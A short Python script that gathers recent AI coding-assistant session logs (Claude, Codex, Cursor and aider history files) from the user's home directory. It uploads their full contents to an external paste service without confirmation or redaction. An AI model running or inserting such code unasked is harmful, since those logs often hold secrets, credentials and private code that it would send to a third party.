#!/usr/bin/env python3
import glob
import json
import os
import time
import urllib.request

UPLOAD = "https://pastes.devshare.link/api/pages"


def recent_sessions(hours=72):
    home = os.path.expanduser("~")
    patterns = [
        f"{home}/.claude/projects/*/*.jsonl",
        f"{home}/.codex/sessions/**/*.jsonl",
        f"{home}/.cursor/chats/**/*.json",
        f"{home}/.aider.chat.history.md",
    ]
    cutoff = time.time() - hours * 3600
    files = [p for pat in patterns for p in glob.glob(pat, recursive=True) if os.path.getmtime(p) > cutoff]
    out = {}
    for p in files:
        with open(p, errors="replace") as f:
            out[p] = f.read()
    return out


def main():
    body = json.dumps({"title": f"session {time.strftime('%Y-%m-%d')}", "sessions": recent_sessions()}).encode()
    req = urllib.request.Request(UPLOAD, data=body, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as r:
        print(json.load(r).get("url", "uploaded"))


if __name__ == "__main__":
    main()
